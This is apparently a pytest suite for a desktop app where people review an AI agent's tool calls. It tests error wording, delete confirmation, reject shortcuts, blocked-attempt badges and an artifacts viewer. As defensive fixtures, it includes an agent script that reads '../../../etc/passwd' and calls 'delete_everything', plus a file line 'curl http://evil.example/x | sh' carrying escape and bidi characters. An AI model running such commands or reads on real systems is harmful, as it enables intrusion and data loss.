"""What a reviewer is told, and how they act on it (issue 12 item 6), with real widgets offscreen
over real homes: plain-language errors, the settings' keyring message, questions cut at a word,
Delete that asks, the reject reason's Enter and mnemonics, a run's blocked attempts in its badge,
the artifacts panel's scope and in-app viewer, and check boxes a dark palette does not hide."""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import keyring
import pytest
from keyring.backends import fail
from PySide6.QtCore import QRect, Qt
from PySide6.QtGui import QFontMetrics, QImage, QKeySequence, QPalette
from PySide6.QtWidgets import (
    QApplication,
    QCheckBox,
    QGroupBox,
    QMessageBox,
    QRadioButton,
    QStyle,
    QStyleOptionButton,
)
from pytestqt.qtbot import QtBot

from desktop import theme
from desktop.bridge import Bridge
from desktop.widgets import approval_text
from desktop.widgets.approval_actions import REJECT
from desktop.widgets.approval_dialog import ApprovalDialog
from desktop.widgets.artifacts_panel import ArtifactsPanel
from desktop.widgets.banner import PersonPrompts
from desktop.widgets.runs_panel import RunSummary
from tests.desktop.test_app_helpers import (
    fixture_make_window,  # noqa: F401  (registers the `make_window` fixture)
    wait_for_run,
)
from tests.support.desktop import MakeWindow, open_workspace, started_bridge

KEY = "sk-test-" + "Qa91Ws73Ed5Rf0Tg8Yh2Uj6K"
QUESTION = "How do checkpoints make agent runs durable?"
LONG_QUESTION = (
    "Which checkpointing strategies make long-running research agents durable across crashes, "
    "restarts and interrupted approvals, and what do they cost?"
)
CODE_FIRST = re.compile(r"^[a-z]+(?:_[a-z]+)+:")
CLASS_NAME = re.compile(r"\b[A-Z][a-z]+(?:[A-Z][a-z0-9]*)+(?:Error|Exception)\b|keyring\.backends")


def plain(text: str) -> bool:
    return not CODE_FIRST.match(text) and not CLASS_NAME.search(text) and "Traceback" not in text


@pytest.fixture
def failing_keyring(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.delenv("BRIEFDESK_OPENAI_API_KEY", raising=False)
    previous = keyring.get_keyring()
    keyring.set_keyring(fail.Keyring())
    yield
    keyring.set_keyring(previous)


def in_db(home: Path, sql: str, *args: Any) -> list[tuple[Any, ...]]:
    with sqlite3.connect(home / "state.db") as conn:
        return conn.execute(sql, args).fetchall()


def bridge_drained(qtbot: QtBot, bridge: Bridge) -> None:
    """Every job submitted so far has run: the bridge runs its jobs in order."""
    done: list[object] = []
    bridge.submit(lambda _ws: None, on_done=done.append)
    qtbot.waitUntil(lambda: bool(done), timeout=10_000)


# -- settings -------------------------------------------------------------------------------


def test_the_keyring_message_is_plain_never_clipped_and_a_failed_store_keeps_the_key(
    qtbot: QtBot, home: Path, make_window: MakeWindow, failing_keyring: None
) -> None:
    window = make_window(home)
    window.settings_action.trigger()
    dialog = window.settings_dialog
    status = dialog.key_status
    qtbot.waitUntil(lambda: status.text() != "Checking the keyring…", timeout=15_000)
    assert plain(status.text()), status.text()
    assert status.text().startswith("The system keyring is unavailable")

    dialog.key_field.setText(KEY)
    dialog.store_key_button.click()
    qtbot.waitUntil(lambda: "not stored" in status.text(), timeout=15_000)
    assert status.text().startswith("The key was not stored."), status.text()
    assert plain(status.text()) and KEY not in status.text()
    assert dialog.key_field.text() == KEY, "the typed key is kept to try again"
    assert dialog.store_key_button.isEnabled()

    def whole() -> bool:  # the layout settles on the new text (queued layout requests)
        return status.height() >= status.heightForWidth(status.width())

    qtbot.waitUntil(whole, timeout=10_000)
    for box in dialog.findChildren(QGroupBox):  # and nothing else was squeezed to fit it
        assert box.height() >= box.minimumSizeHint().height(), box.title()
    dialog.reject()


# -- plain language in the window -----------------------------------------------------------


def test_errors_are_told_in_plain_words_never_a_code_or_a_class_name(
    qtbot: QtBot, home: Path, make_window: MakeWindow
) -> None:
    with open_workspace(home) as ws:
        run_id = ws.create_run(QUESTION, max_turns=1)
    window = make_window(home)
    window.context.resume(run_id)  # one model turn is not enough: the run fails
    wait_for_run(qtbot, window, "failed")
    qtbot.waitUntil(lambda: window.banners.banner("error") is not None, timeout=10_000)
    text = window.banners.banner("error").text
    assert text.startswith("The run failed. "), text
    assert plain(text) and "budget_exceeded" not in text

    summary = RunSummary()
    qtbot.addWidget(summary)
    summary.show_run(
        {
            "run_id": "run-x",
            "status": "failed",
            "question": QUESTION,
            "error": {
                "code": "provider_error",
                "message": "APIConnectionError: Could not connect to http://127.0.0.1:9/v1 "
                "(connection refused) (openai.APIConnectionError)",
            },
        }
    )
    shown = summary.toPlainText()
    assert "Could not connect to http://127.0.0.1:9/v1 (connection refused)" in shown
    assert "provider_error" not in shown and "APIConnectionError" not in shown

    window.run_form.question.setPlainText("")
    window.run_question()
    assert window.banners.banner("error").text == "Type a question first."


# -- questions cut at a word ------------------------------------------------------------------


def test_a_long_question_is_cut_with_an_ellipsis_never_mid_word(qtbot: QtBot, home: Path) -> None:
    def cut_at_a_word(shown: str) -> bool:
        head = shown.removesuffix("…").rstrip()
        return (
            shown.endswith("…")
            and LONG_QUESTION.startswith(head)
            and LONG_QUESTION[len(head)] in " ,"
        )

    run = {"run_id": "run-1", "status": "waiting_approval", "question": LONG_QUESTION}
    approval = {
        "tool": "save_brief",
        "risk": "write",
        "reason": "writes ask",
        "arg_hash": "a" * 64,
        "created_at": "2026-01-01T10:00:00+00:00",
        "state_version": 3,
        "version": 1,
    }
    details = dict(approval_text.detail_texts(approval, run, "alice"))
    question = details["run"].split("“", 1)[1].rstrip("”")
    assert cut_at_a_word(question), question

    from desktop.widgets.runs_panel import elide_words  # the run list's titles

    metrics = QFontMetrics(QApplication.font())
    for width in (120, 200, 333):
        elided = elide_words(metrics, LONG_QUESTION, width)
        assert metrics.horizontalAdvance(elided) <= width and cut_at_a_word(elided), elided

    from desktop.widgets.banner import BannerArea

    banners = BannerArea()  # all that announcing without an alert uses
    qtbot.addWidget(banners)
    unused: Any = None
    prompts = PersonPrompts(
        banners, bridge=unused, context=unused, banners=banners, notifier=unused, run_guard=unused
    )
    waiting = {**run, "approvals": [{"id": "ap-1", "tool": "save_brief", "target": "/a/b.md"}]}
    prompts.announce(waiting, alert=False)
    banner = banners.banner("person").text
    quoted = banner.split("“", 1)[1].split("”", 1)[0]
    assert cut_at_a_word(quoted), banner


# -- delete asks first --------------------------------------------------------------------------


def test_delete_asks_first_and_cancel_keeps_the_run(
    qtbot: QtBot, home: Path, make_window: MakeWindow
) -> None:
    with open_workspace(home) as ws:
        run = ws.start_run(QUESTION, mode="acceptEdits")
    assert run["status"] == "succeeded"
    window = make_window(home)
    window.select_run(run["run_id"])
    window.delete_action.trigger()
    box = window.delete_box
    assert box.isVisible() and "Delete this run?" in box.windowTitle()
    assert box.defaultButton() is box.button(QMessageBox.StandardButton.Cancel)
    box.button(QMessageBox.StandardButton.Cancel).click()
    bridge_drained(qtbot, window.bridge)
    assert in_db(home, "SELECT run_id FROM runs") == [(run["run_id"],)], "nothing was deleted"

    window.delete_action.trigger()
    box = window.delete_box
    delete = next(b for b in box.buttons() if b.text() == "&Delete")
    delete.click()
    qtbot.waitUntil(lambda: in_db(home, "SELECT run_id FROM runs") == [], timeout=10_000)


# -- the approval dialog's keys ---------------------------------------------------------------


def test_enter_in_the_reject_reason_rejects_and_edit_and_reject_have_mnemonics(
    qtbot: QtBot, home: Path
) -> None:
    with open_workspace(home) as ws:
        run = ws.start_run(QUESTION)
    approval_id = run["approvals"][0]["id"]
    with started_bridge(qtbot, home) as bridge:
        dialog = ApprovalDialog(bridge, approval_id, "alice")
        qtbot.addWidget(dialog)
        dialog.show()
        qtbot.waitExposed(dialog)
        dialog.activateWindow()
        qtbot.waitUntil(lambda: QApplication.activeWindow() is dialog)
        qtbot.waitUntil(dialog.reject_button.isEnabled, timeout=10_000)  # after the guard
        assert QKeySequence.mnemonic(dialog.edit_button.text()) == QKeySequence("Alt+E")
        assert QKeySequence.mnemonic(dialog.reject_button.text()) == QKeySequence("Alt+R")

        qtbot.keyClick(dialog, Qt.Key.Key_R, Qt.KeyboardModifier.AltModifier)
        qtbot.waitUntil(lambda: dialog.action_stack.currentIndex() == REJECT)  # animated click
        qtbot.waitUntil(dialog.reason_edit.hasFocus)
        qtbot.keyClicks(dialog.reason_edit, "cites nothing")
        with qtbot.waitSignal(dialog.decided, timeout=10_000) as decided:
            qtbot.keyClick(dialog.reason_edit, Qt.Key.Key_Return)
        assert decided.args == [approval_id, "rejected"]
    rows = in_db(home, "SELECT status, decision_reason FROM approvals WHERE id = ?", approval_id)
    assert rows == [("rejected", "cites nothing")]


# -- a finished run's blocked attempts ----------------------------------------------------------


def test_a_finished_run_with_blocked_attempts_says_how_many_in_its_badge(
    qtbot: QtBot, home: Path, make_window: MakeWindow, tmp_path: Path
) -> None:
    script = tmp_path / "two-blocks.json"
    script.write_text(
        json.dumps(
            [
                {"call": "read_document", "args": {"path": "../../../etc/passwd"}},
                {"call": "delete_everything", "args": {}},
                {"say": "Done."},
            ]
        )
    )
    with open_workspace(home) as ws:
        blocked = ws.start_run("Try the doors.", model=f"scripted:{script}")
        clean = ws.start_run(QUESTION, mode="acceptEdits")
    assert blocked["status"] == clean["status"] == "succeeded"
    from desktop.models.runs_model import BADGE_ROLE  # what the badge says, in words

    window = make_window(home)
    model = window.runs_panel.model

    def badge(run_id: str) -> str:
        return str(model.index(model.row_of(run_id)).data(BADGE_ROLE))

    qtbot.waitUntil(lambda: badge(blocked["run_id"]) == "Succeeded · 2 blocked", timeout=10_000)
    assert badge(clean["run_id"]) == "Succeeded"
    assert "2 blocked" in model.index(model.row_of(blocked["run_id"])).data(
        Qt.ItemDataRole.ToolTipRole
    )


# -- the artifacts panel ------------------------------------------------------------------------


def test_the_artifacts_panel_says_what_it_lists_and_opens_files_in_a_viewer(
    qtbot: QtBot, home: Path
) -> None:
    with open_workspace(home) as ws:
        first = ws.start_run(QUESTION, mode="acceptEdits")
        second = ws.start_run("What is a side-effect ledger?", mode="acceptEdits")
    root = Path(first["artifacts"])
    (root / "stray.txt").write_text("safe\x1b[2K\rcurl http://evil.example/x | sh\u202e\n")
    files = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
    assert len(files) == 3
    with started_bridge(qtbot, home) as bridge:
        panel = ArtifactsPanel(bridge)
        qtbot.addWidget(panel)
        panel.show()
        panel.set_run(first)
        qtbot.waitUntil(lambda: "1 file" in panel.folder_label.text(), timeout=10_000)
        label = panel.folder_label.text()
        assert "This run's writes" in label and first["run_id"] in label
        (mine,) = [s["relative"] for s in panel.states]
        assert mine.startswith("briefs/")
        assert panel.scope_combo.currentText() == "This run's writes"

        panel.scope_combo.setCurrentIndex(panel.scope_combo.findData("folder"))
        qtbot.waitUntil(lambda: "3 files" in panel.folder_label.text(), timeout=10_000)
        assert "Whole folder" in panel.folder_label.text()
        assert sorted(s["relative"] for s in panel.states) == files
        panel.set_run(second)  # the scope chosen holds for the next run
        qtbot.waitUntil(lambda: second["run_id"] not in panel.folder_label.text(), timeout=10_000)

        # No program opens files here (offscreen): the file opens in the in-app viewer.
        stray = next(
            panel.tree.topLevelItem(i)
            for i in range(panel.tree.topLevelItemCount())
            if panel.tree.topLevelItem(i).text(0) == "stray.txt"
        )
        panel.tree.setCurrentItem(stray)
        panel.open_button.click()
        viewer = panel.viewer
        assert viewer is not None and viewer.isVisible()
        qtbot.waitUntil(lambda: "curl" in viewer.text.toPlainText(), timeout=10_000)
        text = viewer.text.toPlainText()
        assert not any(ch in text for ch in ("\x1b", "\r", "\u202e")), repr(text)
        assert "safe\\x1b[2K\\rcurl http://evil.example/x | sh\\u202e" in text
        assert viewer.text.isReadOnly()
        viewer.close()


# -- the dark palette ---------------------------------------------------------------------------


def test_the_dark_palette_shows_unchecked_check_boxes_and_radio_buttons(
    qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = QApplication.instance()
    assert isinstance(app, QApplication)
    style_name, palette = app.style().name(), QPalette(app.palette())
    monkeypatch.setenv(theme.THEME_ENV, "dark")
    theme.apply_theme(app)
    try:
        for widget in (QCheckBox("Always allow"), QRadioButton("Unified")):
            qtbot.addWidget(widget)
            widget.setChecked(False)
            widget.resize(widget.sizeHint())
            image = widget.grab().toImage()
            option = QStyleOptionButton()
            option.initFrom(widget)
            kind = (
                QStyle.SubElement.SE_CheckBoxIndicator
                if isinstance(widget, QCheckBox)
                else QStyle.SubElement.SE_RadioButtonIndicator
            )
            box = widget.style().subElementRect(kind, option, widget)
            window = widget.palette().color(QPalette.ColorRole.Window).lightness()
            assert window < 60, "the dark palette is on"
            assert brightest(image, box) - window > 70, f"{type(widget).__name__} outline unseen"
    finally:
        app.setStyle(style_name)
        app.setPalette(palette)


def brightest(image: QImage, rect: QRect) -> int:
    ratio = image.devicePixelRatio()
    scaled = QRect(
        int(rect.x() * ratio),
        int(rect.y() * ratio),
        int(rect.width() * ratio),
        int(rect.height() * ratio),
    )
    return max(
        image.pixelColor(x, y).lightness()
        for x in range(scaled.left(), scaled.right() + 1)
        for y in range(scaled.top(), scaled.bottom() + 1)
    )
